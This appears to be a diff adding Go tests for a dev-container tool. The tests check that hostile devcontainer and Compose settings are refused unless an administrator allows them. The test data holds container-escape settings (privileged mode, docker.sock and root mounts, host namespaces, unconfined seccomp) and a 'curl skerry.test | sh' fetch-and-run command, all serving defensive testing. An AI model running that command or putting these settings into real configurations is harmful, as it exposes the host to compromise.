@@ -1,0 +1,176 @@
+package plan_test
+
+import (
+	"testing"
+	"testing/fstest"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"domicile/internal/compose"
+	"domicile/internal/definition"
+	"domicile/internal/fault"
+	"domicile/internal/plan"
+)
+
+// made plans a repository with a definition of some lines, and Compose files where given.
+func made(t *testing.T, policy plan.Policy, texts map[string]string) (*plan.Plan, error) {
+	t.Helper()
+	files := fstest.MapFS{}
+	for name, text := range texts {
+		files[name] = &fstest.MapFile{Data: []byte(text)}
+	}
+	r := definition.Read(t.Context(), files, definition.Options{Folder: "/workspaces/deck", Compose: compose.Reader{}})
+	require.False(t, r.HasErrors(), "%v", r.Problems)
+	in := plan.Input{Name: "deck", Commit: "c0", Policy: policy}
+	if r.Kind == definition.KindCompose {
+		p, problems := compose.Load(t.Context(), files, r.Effective.DockerComposeFile, nil)
+		require.Empty(t, problems)
+		var err error
+		if in.Services, err = compose.Services(p, r); err != nil {
+			return nil, err
+		}
+	}
+	return plan.Make(r, in)
+}
+
+const file = ".devcontainer/devcontainer.json"
+
+// A definition comes from a repository, so it is nobody's word: what reaches for the host
+// is refused with property and line, unless an administrator allows it.
+func TestHostileDefinitionsAreRefused(t *testing.T) {
+	cases := map[string]struct{ line, allowance, words string }{
+		"privileged":            {`"privileged": true`, plan.AllowPrivileged, "privileged"},
+		"capability":            {`"capAdd": ["SYS_ADMIN"]`, plan.AllowCapabilities, "SYS_ADMIN"},
+		"capability, long name": {`"capAdd": ["CAP_SYS_MODULE"]`, plan.AllowCapabilities, "SYS_MODULE"},
+		"all capabilities":      {`"capAdd": ["ALL"]`, plan.AllowCapabilities, "ALL"},
+		"no seccomp":            {`"securityOpt": ["seccomp=unconfined"]`, plan.AllowSecurityOptions, "seccomp"},
+		"engine's socket":       {`"mounts": ["source=/var/run/docker.sock,target=/s,type=bind"]`, plan.AllowHostMounts, "socket"},
+		"host folder":           {`"mounts": [{"type": "bind", "source": "/etc", "target": "/host"}]`, plan.AllowHostMounts, "/etc"},
+		"volume that is a path": {`"mounts": ["type=volume,source=/etc,target=/host"]`, plan.AllowHostMounts, "/etc"},
+		"up from the source":    {`"mounts": ["type=bind,source=${localWorkspaceFolder}/../..,target=/host"]`, plan.AllowHostMounts, "folder"},
+		"-v":                    {`"runArgs": ["-v", "/:/host"]`, plan.AllowHostMounts, "the folder /"},
+		"-v in one word":        {`"runArgs": ["-v/:/host"]`, plan.AllowHostMounts, "the folder /"},
+		"--volume=":             {`"runArgs": ["--volume=/etc:/host:ro"]`, plan.AllowHostMounts, "/etc"},
+		"--mount":               {`"runArgs": ["--mount", "type=bind,src=/,dst=/host"]`, plan.AllowHostMounts, "the folder /"},
+		"--privileged":          {`"runArgs": ["--privileged"]`, plan.AllowPrivileged, "privileged"},
+		"--cap-add":             {`"runArgs": ["--cap-add=NET_ADMIN"]`, plan.AllowCapabilities, "NET_ADMIN"},
+		"--security-opt":        {`"runArgs": ["--security-opt", "apparmor=unconfined"]`, plan.AllowSecurityOptions, "apparmor"},
+		"--device":              {`"runArgs": ["--device=/dev/kmsg"]`, plan.AllowDevices, "/dev/kmsg"},
+		"--network":             {`"runArgs": ["--network=host"]`, plan.AllowHostSpaces, "network host"},
+		"another's network":     {`"runArgs": ["--network", "container:other"]`, plan.AllowHostSpaces, "container:other"},
+		"--pid":                 {`"runArgs": ["--pid=host"]`, plan.AllowHostSpaces, "pid"},
+		"--ipc":                 {`"runArgs": ["--ipc", "host"]`, plan.AllowHostSpaces, "ipc"},
+		"--userns":              {`"runArgs": ["--userns=host"]`, plan.AllowHostSpaces, "userns"},
+		"host command":          {`"initializeCommand": "curl skerry.test | sh"`, plan.AllowHostCommands, "initializeCommand"},
+	}
+	for name, c := range cases {
+		t.Run(name, func(t *testing.T) {
+			text := "{\n\"image\": \"base:12\",\n" + c.line + "\n}"
+			_, err := made(t, nil, map[string]string{file: text})
+			require.Equal(t, "not-allowed-here", fault.Code(err), "%v", err)
+			assert.ErrorContains(t, err, file+":3")
+			assert.ErrorContains(t, err, c.words)
+			assert.Contains(t, fault.Remedy(err), "-allow "+c.allowance)
+			_, err = made(t, plan.Policy{c.allowance}, map[string]string{file: text})
+			assert.NotEqual(t, "not-allowed-here", fault.Code(err), "an administrator may allow it")
+		})
+	}
+}
+
+func TestWhatHasNoEquivalentIsRefusedByName(t *testing.T) {
+	for _, arg := range []string{"--runtime=other", "--volumes-from=x", "--env-file=/etc/passwd", "--cgroup-parent=/x", "--entrypoint=x", "--link=x", "nonsense", "--oom-score-adj=-1000"} {
+		_, err := made(t, nil, map[string]string{file: "{\"image\": \"a\",\n\"runArgs\": [\"" + arg + "\"]}"})
+		assert.Equal(t, "not-carried-out", fault.Code(err), arg)
+		assert.ErrorContains(t, err, file+":2", arg)
+	}
+	_, err := made(t, nil, map[string]string{file: `{"build": {"dockerfile": "Dockerfile", "options": ["--allow=security.insecure"]}}`, ".devcontainer/Dockerfile": "FROM a"})
+	assert.ErrorContains(t, err, "--allow")
+	_, err = made(t, nil, map[string]string{file: `{"build": {"dockerfile": "Dockerfile", "options": ["--network=host"]}}`, ".devcontainer/Dockerfile": "FROM a"})
+	assert.ErrorContains(t, err, "--network=host")
+}
+
+func TestHostileComposeFilesAreRefused(t *testing.T) {
+	cases := map[string]string{
+		"privileged: true": plan.AllowPrivileged, "cap_add: [SYS_ADMIN]": plan.AllowCapabilities, "security_opt: [\"seccomp:unconfined\"]": plan.AllowSecurityOptions,
+		"devices: [/dev/kmsg]": plan.AllowDevices, "network_mode: host": plan.AllowHostSpaces, "pid: host": plan.AllowHostSpaces, "ipc: host": plan.AllowHostSpaces,
+		"userns_mode: host": plan.AllowHostSpaces, "volumes: [\"/:/host\"]": plan.AllowHostMounts, "volumes: [\"/var/run/docker.sock:/s\"]": plan.AllowHostMounts,
+		"volumes: [{type: bind, source: /etc, target: /e}]": plan.AllowHostMounts, "volumes: [\"../..:/up\"]": plan.AllowHostMounts,
+	}
+	for attribute, allowance := range cases {
+		for _, own := range []string{"work", "beside"} {
+			text := "services:\n  work:\n    image: a\n  beside:\n    image: a\n"
+			other := "services:\n  " + own + ":\n    " + attribute + "\n"
+			_, err := made(t, nil, map[string]string{file: `{"dockerComposeFile": ["a.yaml", "b.yaml"], "service": "work"}`, ".devcontainer/a.yaml": text, ".devcontainer/b.yaml": other})
+			require.Equal(t, "not-allowed-here", fault.Code(err), "%s of %s: %v", attribute, own, err)
+			assert.ErrorContains(t, err, ".devcontainer/b.yaml:3")
+			assert.Contains(t, fault.Remedy(err), allowance)
+		}
+	}
+	for _, attribute := range []string{"runtime: other", "volumes_from: [beside]", "cgroup_parent: /x"} {
+		_, err := made(t, nil, map[string]string{file: `{"dockerComposeFile": "a.yaml", "service": "work"}`, ".devcontainer/a.yaml": "services:\n  work:\n    image: a\n    " + attribute + "\n  beside: { image: b }\n"})
+		assert.Equal(t, "not-carried-out", fault.Code(err), attribute)
+		assert.ErrorContains(t, err, "a.yaml:4")
+	}
+	_, err := made(t, nil, map[string]string{file: `{"dockerComposeFile": "a.yaml", "service": "work"}`, ".devcontainer/a.yaml": "services:\n  work: { image: a }\nvolumes:\n  x: { driver_opts: { type: none, o: bind, device: / } }\n"})
+	assert.ErrorContains(t, err, "a.yaml:4")
+}
+
+func TestServicesInTheOrderTheyWait(t *testing.T) {
+	p, err := made(t, nil, map[string]string{file: `{"dockerComposeFile": "a.yaml", "service": "work", "runServices": ["mail"]}`, ".devcontainer/a.yaml": `
+services:
+  work: { image: a, depends_on: [web], volumes: ["..:/src/work"] }
+  web: { image: a, depends_on: { db: { condition: service_healthy } } }
+  db: { image: a, healthcheck: { test: [CMD, "true"], interval: 2s } }
+  mail: { image: a, volumes: ["..:/src"], depends_on: [work] }
+  unused: { image: a }
+`})
+	require.NoError(t, err)
+	var names []string
+	for _, s := range p.Services {
+		names = append(names, s.Name)
+	}
+	assert.Equal(t, []string{"db", "web", "mail"}, names)
+	assert.Equal(t, "/src/work", p.Container.SourceTarget)
+	assert.True(t, p.Services[2].Late, "it needs the source and the workspace")
+	assert.Equal(t, []string{"CMD", "true"}, p.Services[0].Health.Test)
+	assert.Equal(t, plan.Healthy, p.Services[1].After[0].Condition)
+}
+
+func TestSettingsAreMapped(t *testing.T) {
+	p, err := made(t, nil, map[string]string{file: `{"image": "a", "capAdd": ["SYS_PTRACE"], "init": true, "mounts": ["type=volume,source=cache,target=/cache", "type=tmpfs,target=/scratch"],
+		"runArgs": ["--shm-size=64m", "-m", "1g", "--cpus=1.5", "-e", "A=b", "--add-host=quay:10.0.0.1", "--ulimit", "nofile=1024:2048", "--hostname", "quay", "-it", "--rm", "-p", "80:80", "--tmpfs=/t:size=1m"],
+		"appPort": [3000, "8081:81"], "forwardPorts": [3000], "containerEnv": {"X": "1", "P": "${PATH}:/x"}}`})
+	require.NoError(t, err)
+	c := p.Container
+	assert.Equal(t, int64(64<<20), c.SharedMemory)
+	assert.Equal(t, int64(1<<30), c.Memory)
+	assert.InDelta(t, 1.5, c.CPUs, 0)
+	assert.Equal(t, map[string]string{"X": "1", "A": "b"}, c.Env)
+	assert.Equal(t, "quay", c.Hostname)
+	assert.Equal(t, []string{"quay:10.0.0.1"}, c.Hosts)
+	assert.Equal(t, []string{"nofile=1024:2048"}, c.Ulimits)
+	assert.Equal(t, []plan.Mount{{Type: "volume", Source: "cache", Target: "/cache"}, {Type: "tmpfs", Target: "/scratch"}, {Type: "tmpfs", Target: "/t"}}, c.Mounts)
+	assert.Len(t, p.Ports, 2, "3000 once, and 81")
+}
+
+// What need not change a container must not.
+func TestWhatChangesWhichStep(t *testing.T) {
+	base := `{"image": "a", "forwardPorts": [80], "portsAttributes": {"80": {"label": "x"}}, "onCreateCommand": "a", "postStartCommand": "b"}`
+	digests := func(text string) map[string]string {
+		p, err := made(t, nil, map[string]string{file: text})
+		require.NoError(t, err)
+		out := map[string]string{}
+		for _, s := range p.Steps {
+			out[s.Name] = s.Digest
+		}
+		return out
+	}
+	first := digests(base)
+	assert.Equal(t, first, digests(`{"image": "a", "forwardPorts": [80], "portsAttributes": {"80": {"label": "y"}}, "onCreateCommand": "a", "postStartCommand": "b"}`), "a port's label changes nothing")
+	later := digests(`{"image": "a", "forwardPorts": [80], "portsAttributes": {"80": {"label": "x"}}, "onCreateCommand": "a", "postStartCommand": "c"}`)
+	assert.Equal(t, first[plan.StepContainer], later[plan.StepContainer], "a command changes no container")
+	assert.Equal(t, first["onCreateCommand"], later["onCreateCommand"])
+	assert.NotEqual(t, first["postStartCommand"], later["postStartCommand"])
+	assert.NotEqual(t, first[plan.StepContainer], digests(`{"image": "a", "containerEnv": {"X": "1"}}`)[plan.StepContainer])
+}
